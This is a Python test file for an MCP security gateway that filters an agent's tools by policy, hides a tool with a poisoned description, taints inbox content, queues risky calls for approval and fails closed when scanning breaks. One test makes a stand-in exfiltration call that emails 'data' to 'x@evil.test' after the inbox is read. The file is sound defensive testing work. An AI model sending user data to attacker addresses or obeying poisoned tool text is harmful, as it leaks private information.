"""The MCP gateway against a real stdio MCP server started by the test."""

from __future__ import annotations

import sys
from pathlib import Path

import anyio
import pytest
from proxy_helpers import PATTERNS, POLICY, make_gateway

pytestmark = pytest.mark.mcp
mcp = pytest.importorskip("mcp", reason="needs the mcp extra: pip install 'ringfence[mcp]'")

from mcp import Client  # noqa: E402

from ringfence.policy import Principal  # noqa: E402
from ringfence.server import PatternChecker  # noqa: E402
from ringfence.server._mcp import McpGateway, build_server, connect_upstream  # noqa: E402

FIXTURE = [sys.executable, str(Path(__file__).with_name("mcp_fixture_server.py"))]
MCP_POLICY = POLICY.replace(
    "tools:\n", "tools:\n  read_inbox: {effect: allow}\n  add: {effect: allow}\n", 1
)


async def with_gateway(fn, policy=MCP_POLICY, approvals=None):
    gateway = make_gateway(policy, approvals=approvals)
    try:
        async with connect_upstream(FIXTURE) as upstream:
            gw = McpGateway(gateway, upstream, Principal("alice"), PatternChecker(PATTERNS))
            async with Client(build_server(gw)) as client:
                return await fn(client, gw, gateway)
    finally:
        gateway.close()


def run(fn, **kw):
    return anyio.run(lambda: with_gateway(fn, **kw))


def test_tools_list_is_filtered_by_policy_and_poisoning():
    async def body(client, gw, gateway):
        names = sorted(t.name for t in (await client.list_tools()).tools)
        return names, dict(gw.hidden)

    names, hidden = run(body)
    assert names == ["cancel_order", "get_order", "read_inbox", "send_email"]
    assert hidden["delete_account"] == "denied by the policy"
    assert hidden["format_disk"] == "not declared in the policy"
    assert "description was flagged" in hidden["add"]


def test_calls_are_decided_with_provenance_across_the_connection():
    async def body(client, gw, gateway):
        await client.list_tools()
        ok = await client.call_tool("get_order", {"order_id": "4821"})
        inbox = await client.call_tool("read_inbox", {})
        bad = await client.call_tool("send_email", {"to": "x@evil.test", "body": "data"})
        good = await client.call_tool("send_email", {"to": "me@corp.test", "body": "hi"})
        poisoned = await client.call_tool("add", {"a": 1, "b": 2})
        denied = await client.call_tool("delete_account", {})
        gateway.audit.flush()
        decisions = [
            (r.payload["tool"], r.payload["decision"])
            for r in gateway.audit.records(kinds=["decision"])
        ]
        return ok, inbox, bad, good, poisoned, denied, decisions

    ok, inbox, bad, good, poisoned, denied, decisions = run(body)
    assert not ok.is_error and "4821" in str(ok.structured_content or ok.content)
    assert not inbox.is_error  # flagged content is passed on, tainted
    assert bad.is_error and "refused" in bad.content[0].text
    assert not good.is_error  # the address is a trusted field of get_order's result
    assert poisoned.is_error and "not available" in poisoned.content[0].text
    assert denied.is_error
    assert ("send_email", "deny") in decisions and ("send_email", "allow") in decisions
    assert ("delete_account", "deny") in decisions


def test_approval_needing_call_becomes_a_pending_request():
    async def body(client, gw, gateway):
        await client.list_tools()
        res = await client.call_tool("cancel_order", {"order_id": "4821"})
        return res, gateway.approvals.list_requests()

    res, requests = run(body, approvals="queue")
    assert res.is_error and "approval request" in res.content[0].text
    assert len(requests) == 1 and requests[0].state == "pending"


def test_unscannable_descriptions_hide_tools_fail_closed():
    class Broken(PatternChecker):
        def scan(self, session, item):
            from ringfence.server import Check

            return Check("untrusted", "error", errors=("scanner down",))

    async def body(client, gw, gateway):
        gw.checker = Broken()
        return (await client.list_tools()).tools

    assert run(body) == []


def test_mcp_gateway_cli_over_stdio(tmp_path):
    policy = tmp_path / "policy.yaml"
    policy.write_text(MCP_POLICY.replace("guards:", "x:") + GUARDS)

    async def body():
        from mcp import StdioServerParameters

        cmd = [
            str(Path(sys.executable).with_name("ringfence")),
            "mcp-gateway",
            "--policy",
            str(policy),
            "--db",
            str(tmp_path / "gw.db"),
            "--principal",
            "alice",
            "--",
            *FIXTURE,
        ]
        params = StdioServerParameters(command=cmd[0], args=cmd[1:])
        async with Client(params) as client:
            names = sorted(t.name for t in (await client.list_tools()).tools)
            res = await client.call_tool("get_order", {"order_id": "4821"})
            return names, res

    names, res = anyio.run(body)
    assert "get_order" in names and "format_disk" not in names
    assert not res.is_error


GUARDS = """
guards:
  input: []
  untrusted:
    - {use: size, with: {max_chars: 100000}, action: flag}
  output: []
"""
